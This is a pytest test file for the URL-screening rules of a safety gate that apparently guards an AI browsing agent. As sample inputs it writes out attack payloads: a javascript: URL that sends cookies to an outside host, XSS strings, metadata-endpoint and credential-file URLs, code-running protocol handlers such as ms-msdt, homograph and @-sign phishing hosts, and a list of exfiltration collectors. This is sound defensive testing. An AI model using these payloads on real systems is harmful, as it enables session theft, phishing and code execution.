"""Web rules and URL parsing: each rule with a triggering example and a near miss."""

from __future__ import annotations

import msgspec
import pytest

from gate import SafetyGate
from gate.model import Decision, Observation, action_from_dict
from gate.policy import default_policy
from gate.rules import web
from gate.rules.base import Context
from gate.urls import host_matches, ip_of, is_loopback, parse_host, split_url


def policy_with(**web_fields):
    p = default_policy()
    return msgspec.structs.replace(p, web=msgspec.structs.replace(p.web, **web_fields))


def fired(url: str, policy=None, **extra) -> set[str]:
    ctx = Context(action_from_dict({"type": "navigate", "url": url, **extra}), policy=policy or default_policy())
    return {h.rule for r in web.RULES if (h := r(ctx)) is not None}


# -- parsing ------------------------------------------------------------------------------------


def test_host_is_read_as_a_browser_reads_it():
    assert parse_host("https://user@evil.com@good.com/x") == "good.com"
    assert parse_host("https://good.com\\@evil.com/") == "good.com"  # backslash is a slash in http(s)
    assert parse_host("https:evil.com/path") == "evil.com"
    assert parse_host("HTTPS://WWW.Example.COM./a") == "www.example.com"
    assert parse_host("https://ex%61mple.com") == "example.com"
    assert parse_host("https://ｅｘａｍｐｌｅ.com") == "example.com"  # full-width letters: NFKC
    assert parse_host("localhost:8000/api") == "localhost"
    assert parse_host("javascript:alert(1)") is None


def test_homoglyph_hosts_are_not_folded_into_the_latin_name():
    host = parse_host("https://pаypal.com/")  # Cyrillic а
    assert host is not None and host.startswith("xn--") and host != "paypal.com"
    assert not host_matches(host, "paypal.com")


def test_host_matching_is_exact_or_dot_suffix():
    assert host_matches("localhost", "localhost")
    assert not host_matches("evil-localhost.com", "localhost")
    assert host_matches("a.example.com", "example.com")
    assert not host_matches("badexample.com", "example.com")
    assert not is_loopback("evil-localhost.com") and is_loopback("api.localhost")


def test_legacy_ip_forms_are_read_as_ips():
    assert str(ip_of("2130706433")) == "127.0.0.1"
    assert str(ip_of("0x7f.1")) == "127.0.0.1"
    assert str(ip_of("0177.0.0.1")) == "127.0.0.1"
    assert ip_of("example.com") is None and ip_of("1.2.3.4.5") is None


def test_ip_literals_with_colons_or_hex_letters_still_parse():
    assert str(ip_of("fe80::1%eth0")) == "fe80::1%eth0" and str(ip_of("::ffff:127.0.0.1")) == "::ffff:7f00:1"
    assert str(ip_of("0xc0.0xa8.0x1.0x1")) == "192.168.1.1" and str(ip_of("0xdeadbeef")) == "222.173.190.239"
    assert ip_of("0xdeadbeef.example") is None and ip_of("cafe.be") is None and ip_of("1.2.3.4 ") is None


def test_split_url_reports_userinfo_and_scheme():
    parts = split_url("https://admin:hunter2@intranet.example/")
    assert parts is not None and parts.userinfo == "admin:hunter2" and parts.host == "intranet.example"
    assert split_url("https://example.com:99999/") is None  # bad port


# -- rules --------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["https://en.wikipedia.org/wiki/Python_(programming_language)", "https://github.com/a/b",
                                 "https://www.linkedin.com/feed/", "https://someone.github.io/",
                                 "https://www.bbc.co.uk/news", "http://localhost:5173/", "http://[::1]:8080/",
                                 "https://apple.stackexchange.com/questions", "https://münchen.de/",
                                 "about:blank", "file:///home/user/report.html", "mailto:me@example.com",
                                 "https://docs.python.org/3/library/os.html?highlight=path"])
def test_ordinary_urls_are_allowed(url):
    assert fired(url) == set()
    assert SafetyGate().assess(action_from_dict({"type": "navigate", "url": url})).decision is Decision.ALLOW


def test_blocked_origins_match_exact_or_subdomain():
    policy = policy_with(blocked_origins=["evil.example"])
    assert "block.web.blocked-origin" in fired("https://cdn.evil.example/x", policy)
    assert "block.web.blocked-origin" not in fired("https://notevil.example/x", policy)
    # any action on a page of a blocked origin
    ctx = Context(action_from_dict({"type": "click", "x": 1, "y": 1}), Observation(url="https://evil.example/"),
                  policy)
    assert web.blocked_origin(ctx) is not None


def test_allowed_origins_confirm_anything_else():
    policy = policy_with(allowed_origins=["localhost", "example.com"])
    assert "confirm.web.origin-not-allowed" in fired("https://evil-localhost.com/", policy)
    assert "confirm.web.origin-not-allowed" in fired("https://example.com@evil.net/", policy)
    assert "confirm.web.origin-not-allowed" in fired("data:text/html,hi", policy)
    assert "confirm.web.origin-not-allowed" not in fired("http://localhost:3000/", policy)
    assert "confirm.web.origin-not-allowed" not in fired("https://docs.example.com/", policy)


def test_script_data_and_handler_schemes():
    assert "block.web.script-url" in fired("javascript:fetch('//x?'+document.cookie)")
    assert "block.web.script-url" in fired("  JaVaScRiPt:alert(1)")
    assert "block.web.script-url" in fired("java\tscript:alert(1)")  # browsers drop tabs
    assert "confirm.web.data-url" in fired("data:text/html;base64,PHNjcmlwdD4=")
    assert "confirm.web.external-handler" in fired("ms-settings:windowsdefender")
    assert "confirm.web.external-handler" in fired("chrome://settings/passwords")
    assert not fired("https://example.com/javascript:notreally")


def test_file_urls_follow_the_file_rules():
    assert "block.web.file-url-credential" in fired("file:///etc/shadow")
    assert "block.web.file-url-credential" in fired("file:///home/u/.ssh/id_rsa")
    assert "confirm.web.file-url" in fired("file:///home/u/project/.env")
    assert "confirm.web.file-url" in fired("file://fileserver/share/doc.html")
    assert fired("file:///home/u/report.html") == set()


def test_credentials_in_url_and_the_at_trick():
    assert "confirm.web.credentials-in-url" in fired("https://user:pass@example.com/")
    assert "confirm.web.credentials-in-url" in fired("https://github.com@evil.example/")
    assert "confirm.web.credentials-in-url" in fired("https://user@evil.com@good.com/")
    assert "confirm.web.credentials-in-url" not in fired("https://example.com/@user")


def test_secrets_in_urls():
    assert "block.web.secret-in-url" in fired("https://x.example/c?d=AKIAABCDEFGHIJKLMNOP")
    assert "block.web.secret-in-url" in fired("https://x.example/c?t=ghp_abcdefghijklmnopqrstuvwxyz0123")
    assert "confirm.web.secret-param" in fired("https://x.example/collect?api_key=abc123")
    assert "confirm.web.secret-param" in fired("https://x.example/#access_token=abc")
    assert "confirm.web.secret-param" not in fired("https://x.example/search?q=password+reset")
    assert "block.web.password-over-http" in fired("http://collector.example/?pwd=letmein")
    assert "block.web.password-over-http" not in fired("https://collector.example/?pwd=letmein")
    assert "block.web.password-over-http" not in fired("http://192.168.0.10/login?pass=admin")


def test_ip_hosts():
    assert "confirm.web.ip-host" in fired("http://203.0.113.7/payload")
    # a device's own panel at a private address only shows; a link whose query writes a setting asks
    assert "confirm.web.ip-host" not in fired("http://192.168.50.1/admin")
    assert "confirm.web.ip-host" in fired("http://192.168.50.1/apply.cgi?submit_button=wireless&ssid=guest")
    assert "confirm.web.ip-host" in fired("http://2130706433/")  # loopback, but disguised
    assert "confirm.web.ip-host" not in fired("http://127.0.0.1:8000/")
    assert "block.web.metadata-endpoint" in fired("http://169.254.169.254/latest/meta-data/iam/")
    assert "block.web.metadata-endpoint" not in fired("http://169.254.1.1/")


def test_lookalike_hosts():
    for url in ("https://pаypal.com/", "https://xn--80ak6aa92e.com/", "https://paypa1.com/signin",
                "https://rnicrosoft.com/", "https://g00gle.com/", "https://paypal.com.account-check.net/",
                "https://secure-paypal.com/", "https://githuub.com/"):
        assert "confirm.web.lookalike-host" in fired(url), url
    for url in ("https://www.paypal.com/", "https://accounts.google.com/", "https://drive.google.co.uk/",
                "https://apple.stackexchange.com/", "https://example.com/", "https://münchen.de/"):
        assert "confirm.web.lookalike-host" not in fired(url), url
    assert "confirm.web.lookalike-host" not in fired("https://paypa1.com/", policy_with(brands=[]))


def test_downloads():
    assert "confirm.web.executable-download" in fired("https://dl.example.com/tool/Setup.EXE")
    assert "confirm.web.executable-download" in fired("https://example.com/install.sh")
    assert "confirm.web.executable-download" in fired("https://example.com/get?file=app.apk")
    assert "confirm.web.executable-download" not in fired("https://example.com/docs/install.html")
    assert "confirm.web.executable-download" not in fired("https://example.com/sh")
    assert "confirm.web.direct-download" in fired("https://files.example.com/uc?id=1&export=download")
    assert "confirm.web.direct-download" not in fired("https://example.com/downloads/")


def test_unparseable_urls_fail_closed():
    assert "block.web.unparseable-url" in fired("https://[::1/")
    assert "block.web.unparseable-url" in fired("https://")
    assert "block.web.unparseable-url" not in fired("https://example.com")


# -- deceptions that block: homographs, names before the @, credentials to an IP, data: documents ------


@pytest.mark.parametrize("url", [
    "https://pаypal.com/signin",  # Cyrillic а among Latin letters
    "https://gοogle.com/",  # Greek ο
    "https://аррӏе.com/",  # wholly Cyrillic, reads as apple
    "https://xn--80ak6aa92e.com/",  # the punycode of the line above
    "https://login.xn--pypal-4ve.com/",  # punycode of a mixed label, in a subdomain position
    "https://www.miсrosoft.com/",
])
def test_homograph_hosts_block(url):
    assert "block.web.homograph-host" in fired(url), url
    assert SafetyGate().assess(action_from_dict({"type": "navigate", "url": url})).decision is Decision.BLOCK


@pytest.mark.parametrize("url", [
    "https://münchen.de/", "https://пример.рф/", "https://例え.jp/", "https://xn--mnchen-3ya.de/",
    "https://ソニーstore.jp/", "https://paypal.com/", "https://example.com/pаth-with-cyrillic",
])
def test_honest_international_hosts_do_not_block(url):
    assert "block.web.homograph-host" not in fired(url), url


@pytest.mark.parametrize("url", [
    "https://bank.com@evil.example/", "https://www.mybank.com:login@198.51.100.3/",
    "http://accounts.example.com@attacker.test/reset", "https://a@b@c.example/",
    "https://bank%2Ecom@evil.example/",
])
def test_a_site_name_before_the_at_sign_blocks(url):
    assert "block.web.userinfo-host-trick" in fired(url), url


@pytest.mark.parametrize("url", ["https://user:pass@example.com/", "https://deploy@git.example.com/repo",
                                 "https://example.com/profile/@someone"])
def test_plain_userinfo_is_not_the_trick(url):
    assert "block.web.userinfo-host-trick" not in fired(url), url


def test_credentials_to_a_raw_ip_block():
    assert "block.web.ip-credentials" in fired("http://admin:admin@203.0.113.10/setup")
    assert "block.web.ip-credentials" not in fired("http://admin:admin@127.0.0.1:8080/")
    assert "block.web.ip-credentials" not in fired("http://203.0.113.10/")


@pytest.mark.parametrize(("url", "blocks"), [
    ("data:text/html;base64,PGgxPkxvZ2luPC9oMT4=", True), ("data:image/svg+xml,<svg onload=x()>", True),
    ("data:,Hello%2C%20World", True), ("data:application/octet-stream;base64,TVqQ", True),
    ("data:image/png;base64,iVBORw0KGgo=", False), ("data:audio/ogg;base64,T2dnUw==", False),
])
def test_data_documents_block_pictures_only_ask(url, blocks):
    got = fired(url)
    assert ("block.web.data-document" in got) is blocks, (url, got)
    assert "confirm.web.data-url" in got


@pytest.mark.parametrize("url", ["https://paypa1-login.com/verify", "https://amaz0n-security.net/",
                                 "https://secure-rnicrosoft.com/"])
def test_a_disguised_brand_as_part_of_a_hyphenated_name_asks(url):
    assert "confirm.web.lookalike-host" in fired(url), url


@pytest.mark.parametrize(("url", "asks"), [
    ("https://update-flash-player.com/", True), ("https://free-robux-generator.net/", True),
    ("https://account-verify-alert.io/", True), ("https://www.freecodecamp.org/", False),
    ("https://secure.example.com/", False), ("https://support.example.com/", False),
    ("https://open-source-security.org/", False), ("https://giftshop.example/", False),
])
def test_scam_named_sites_ask(url, asks):
    assert ("confirm.web.scam-host" in fired(url)) is asks, url


@pytest.mark.parametrize(("url", "asks"), [
    ("https://shop.example/admin/catalog/product/delete/id/5/", True),
    ("https://git.example/group/app/-/branches/delete", True),
    ("https://crm.example/index.php?module=Leads&action=Delete&record=9", True),
    ("https://news.example/unsubscribe?u=77", True), ("https://shop.example/checkout/placeOrder", True),
    ("https://admin.example/users/massDelete", True),
    ("https://example.com/blog/how-to-delete-files", False), ("https://example.com/docs/remove.html", False),
    ("https://example.com/search?q=delete", False),
    ("https://crm.example/index.php?module=Leads&action=DetailView&record=9", False),
    ("https://example.com/user/reset", False), ("https://example.com/pay", False),
    ("https://tool.example/cli/remove", False), ("https://docs.example.com/commands/delete", False),
    ("https://example.org/docs/api/unsubscribe", False), ("https://app.example/api/users/7/delete", True),
])
def test_urls_that_act_when_opened_ask(url, asks):
    assert ("confirm.web.state-changing-url" in fired(url)) is asks, url


@pytest.mark.parametrize("url", [
    "ms-msdt:/id PCWDiagnostic /skip force", "search-ms:query=report&crumb=location:\\\\198.51.100.4\\s",
    "ms-excel:ofe|u|https://files.example/q.xlsx", "ms-appinstaller:?source=https://x.example/a.msix",
])
def test_protocol_handlers_that_run_code_block(url):
    assert "block.web.exploit-handler" in fired(url), url


def test_office_links_without_the_command_form_only_ask():
    got = fired("ms-word:https://docs.example/report.docx")
    assert "block.web.exploit-handler" not in got and "confirm.web.external-handler" in got


def test_browser_settings_pages_ask_blank_does_not():
    assert "confirm.web.external-handler" in fired("about:config")
    assert "confirm.web.external-handler" not in fired("about:blank")


@pytest.mark.parametrize(("url", "asks"), [
    ("https://webhook.site/0c1d", True), ("https://x1.ngrok-free.app/", True), ("https://a.oast.fun/", True),
    ("https://transfer.sh/abc/notes.txt", True), ("https://example.com/webhook.site", False),
    ("https://docs.github.com/webhooks", False),
])
def test_collectors_and_tunnels_ask(url, asks):
    assert ("confirm.web.collector-host" in fired(url)) is asks, url
    assert "confirm.web.collector-host" not in fired(url, policy_with(collector_hosts=[]))


def test_collector_host_names_the_first_listed_entry_that_matches_like_host_matches():
    entries = ["  *.Drop.Example. ", "", "inbox.drop.example", "drop.example", "tunnel.test"]
    policy = policy_with(collector_hosts=entries)
    for host in ("drop.example", "a.inbox.drop.example", "x.tunnel.test", "tunnel.test", "notdrop.example",
                 "drop.example.evil", "sub.drop.example"):
        ctx = Context(action_from_dict({"type": "navigate", "url": f"https://{host}/"}), None, policy)
        expected = next((e for e in entries if host_matches(host, e)), None)
        found = web.collector_host.check(ctx)
        assert found == (f"{host} collects what is sent to it ({expected})" if expected else None), host


@pytest.mark.parametrize(("url", "asks"), [
    ("https://shop.example/search?q=<script>alert(1)</script>", True),
    ("https://shop.example/p?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", True),
    ("https://shop.example/#<svg/onload=fetch(1)>", True),
    ("https://shop.example/search?q=script+writing+tips", False),
    ("https://www.example.org/search?q=javascript+closures", False),
])
def test_script_in_a_query_asks(url, asks):
    assert ("confirm.web.script-in-url" in fired(url)) is asks, url


def _on_page(kind: str, url: str, **fields):
    data = {"type": kind, **fields}
    return SafetyGate().assess(action_from_dict(data), Observation(url=url))


def test_acting_on_a_homograph_page_blocks():
    got = _on_page("click", "https://pаypal.com/signin", x=1, y=1, target={"label": "Log in"})
    assert got.decision is Decision.BLOCK and "block.web.homograph-page" in got.rules
    got = _on_page("type", "https://xn--80ak6aa92e.com/", text="jane", target={"label": "Email"})
    assert got.decision is Decision.BLOCK
    assert _on_page("click", "https://www.paypal.com/signin", x=1, y=1,
                    target={"label": "Log in"}).decision is Decision.ALLOW


def test_typing_on_a_lookalike_page_asks_and_is_redacted():
    got = _on_page("type", "https://paypal-account-check.com/", text="Jane", target={"label": "First name"})
    assert got.decision is Decision.CONFIRM and "confirm.web.lookalike-page" in got.rules
    assert "text" in got.redact
    # an e-mail typed there is the sign-in the page collects: it blocks, still redacted
    got = _on_page("type", "https://paypal-account-check.com/", text="jane@example.com", target={"label": "Email"})
    assert got.decision is Decision.BLOCK and "confirm.web.lookalike-page" in got.rules
    assert "text" in got.redact
    got = _on_page("type", "https://www.paypal.com/", text="jane@example.com", target={"label": "Email"})
    assert "confirm.web.lookalike-page" not in got.rules


def test_documentation_addresses_are_not_called_the_local_network():
    from gate import SafetyGate, action_from_dict

    gate = SafetyGate()
    for url in ("http://203.0.113.9/", "http://198.51.100.20/x", "http://192.0.2.1/", "http://[2001:db8::1]/"):
        got = gate.assess(action_from_dict({"type": "navigate", "url": url}))
        assert "confirm.web.ip-host" in got.rules, url
        assert "local network" not in got.reason and "documentation example address" in got.reason, url
    # near miss: a private address is the local network (asked of when the link writes a setting)
    got = gate.assess(action_from_dict({"type": "navigate", "url": "http://192.168.50.1/setup.cgi?todo=save&ssid=x"}))
    assert "on the local network" in got.reason
    # a password in clear text to a documentation address is not "to the local network": it blocks
    assert "block.web.password-over-http" in fired("http://203.0.113.9/login?password=hunter2")
